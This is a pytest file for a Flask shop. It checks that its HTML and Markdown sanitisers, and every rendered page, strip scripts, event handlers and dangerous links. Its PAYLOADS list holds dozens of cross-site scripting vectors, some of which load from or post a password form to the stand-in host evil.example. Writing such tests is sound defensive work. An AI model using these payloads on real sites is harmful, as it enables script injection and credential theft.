"""What programs there may be in texts, of staff and of buyers: none of it reaches a browser."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from flask import Flask
from flask.testing import FlaskClient

from shop.clock import now
from shop.content.models import Article, Page
from shop.extensions import db
from shop.web.filters import markdown, rich_text
from tests.factories import make_product, make_store

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)//>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    '<math><mi//xlink:href="javascript:alert(1)">x',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href=x style='background:url(javascript:alert(1))'>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "</p></div></main><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x](x"onerror="alert(1))',
    "<p id=main name=cookie>x</p>",
]
#: Of the text itself: what a browser may be given.
TAGS = {"p", "a", "br", "em", "strong", "b", "i", "ul", "ol", "li", "h2", "h3", "h4", "blockquote",
        "code", "pre", "hr", "table", "thead", "tbody", "tr", "th", "td", "del", "s", "sub", "sup",
        "dl", "dt", "dd", "u", "small", "span", "div", "img"}  # fmt: skip
ATTRIBUTES = {"href", "align", "rel"}


class Watcher(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("clean", [rich_text, markdown], ids=["HTML", "Markdown"])
def test_nothing_that_runs_is_left_of_a_text(clean: object, payload: str) -> None:
    assert callable(clean)

    seen = Watcher(str(clean(f"Before {payload} after")))

    assert seen.tags <= TAGS - {"img"}
    assert seen.attributes <= ATTRIBUTES
    for link in seen.links:
        assert re.match(r"(https?:|mailto:|tel:|[^:]*$)", link.strip(), re.I), link


def scripts_in(page: str) -> list[str]:
    """Of a whole page, those that are not files of the shop."""
    found = re.findall(r"<script\b([^>]*)>", page, re.I)
    own = r'\s(type="application/ld\+json"|type="module" src="/static/|src="/static/)'
    return [attributes for attributes in found if not re.search(own, f" {attributes.strip()}")]


def handlers_in(page: str) -> set[str]:
    return {name for name in Watcher(page).attributes if name.startswith("on")}


@pytest.fixture
def poisoned(app: Flask) -> None:
    """Every text that is shown as more than letters, by whoever wrote it."""
    all_of_it = "\n\n".join(PAYLOADS)
    make_store()
    make_product(
        title="Mug " + PAYLOADS[0],
        handle="mug",
        summary=all_of_it[:900],
        description=all_of_it,
        seo_title=PAYLOADS[0],
        seo_description=PAYLOADS[38],
        vendor=PAYLOADS[3],
        product_type=PAYLOADS[5],
        tags=[PAYLOADS[3]],
        facts=[[PAYLOADS[0], PAYLOADS[3]]],
        options={PAYLOADS[3]: [PAYLOADS[0], PAYLOADS[5]]},
    )
    for kind in ("text", "questions", "swatches"):
        body = f"## {PAYLOADS[0]}\n\n{all_of_it}"
        db.session.add(Page(handle=kind, kind=kind, title=PAYLOADS[0], body=body))
    db.session.add(
        Article(
            handle="news",
            title=PAYLOADS[0],
            summary=PAYLOADS[3],
            body=all_of_it,
            author=PAYLOADS[3],
            tags=[PAYLOADS[0]],
            published_at=now(),
        )
    )
    db.session.commit()


@pytest.mark.parametrize(
    "path",
    ["/", "/products", "/products/mug", "/search?q=mug", "/pages/text", "/pages/questions",
     "/pages/swatches", "/blogs/journal", "/blogs/journal/news"],
)  # fmt: skip
def test_no_page_runs_what_a_text_says(client: FlaskClient, poisoned: None, path: str) -> None:
    page = client.get(path)

    assert page.status_code == 200
    assert scripts_in(page.text) == []
    assert handlers_in(page.text) == set()
    assert "evil.example" not in "".join(
        re.findall(r"<(?:link|base|meta http-equiv|iframe|form)\b[^>]*>", page.text)
    )
